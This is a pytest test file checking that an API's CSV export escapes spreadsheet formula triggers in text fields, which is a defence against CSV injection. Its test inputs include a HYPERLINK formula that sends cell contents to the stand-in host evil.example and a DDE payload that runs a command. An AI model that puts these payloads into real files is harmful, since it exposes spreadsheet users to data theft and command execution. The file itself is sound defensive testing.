"""CSV export: text a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from calls.api import export
from calls.services import ingest_call_documents
from tests.calls.factories import call_doc

pytestmark = pytest.mark.django_db

URL = "/api/v1/calls/export.csv"
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


def exported(api_client: Any, columns: str) -> list[dict[str, str]]:
    response = api_client.get(URL, {"columns": columns})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.mark.parametrize("first", TRIGGERS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_each_formula_trigger_is_escaped_in_text_fields(tenant, api_client, first):
    payload = f'{first}HYPERLINK("https://evil.example/?x="&A1,"Click")'
    ingest_call_documents(
        tenant=tenant,
        documents=[
            call_doc(
                "c-1",
                lead_name=payload,
                custom_end_call_reason=payload,
                labels=[payload, "vip"],
            )
        ],
    )

    (row,) = exported(api_client, "call_id,lead_name,custom_end_call_reason,labels")

    assert row["lead_name"] == "'" + payload
    assert row["custom_end_call_reason"] == "'" + payload
    assert row["labels"] == "'" + payload + ",vip"


def test_a_formula_is_quoted_so_it_cannot_spill_into_the_next_cell(tenant, api_client):
    # A comma or quote inside the value must not end the cell and start a new, unescaped one.
    ingest_call_documents(
        tenant=tenant, documents=[call_doc("c-1", lead_name='=1+1,=cmd|"/c calc"!A0')]
    )

    response = api_client.get(URL, {"columns": "call_id,lead_name"})
    text = b"".join(response.streaming_content).decode()

    assert text.splitlines()[1] == 'c-1,"\'=1+1,=cmd|""/c calc""!A0"'


def test_phone_numbers_are_escaped_but_numbers_and_harmless_text_are_not(tenant, api_client):
    ingest_call_documents(
        tenant=tenant,
        documents=[
            call_doc(
                "c-1",
                lead_phone_number="+4915758658647",
                lead_name="Eddie = Vedder",
                duration=113,
                total_tokens=7,
            )
        ],
    )

    (row,) = exported(
        api_client, "call_id,lead_phone_number,lead_name,duration,total_tokens,start_time"
    )

    # Phone numbers are text the caller's platform sent: escaped like any other text.
    assert row["lead_phone_number"] == "'+4915758658647"
    assert row["lead_name"] == "Eddie = Vedder"
    assert row["duration"] == "113"
    assert row["total_tokens"] == "7"
    assert row["start_time"] == "2026-03-01T10:00:00+00:00"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-3.5, -3.5),  # a number from a numeric column is not user-controlled text
        (-2, -2),
        (None, None),
        (True, True),
        ("-3.5", "'-3.5"),  # the same characters as text are escaped
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_csv_cell_escapes_text_only(value, expected):
    assert export.csv_cell(value) == expected
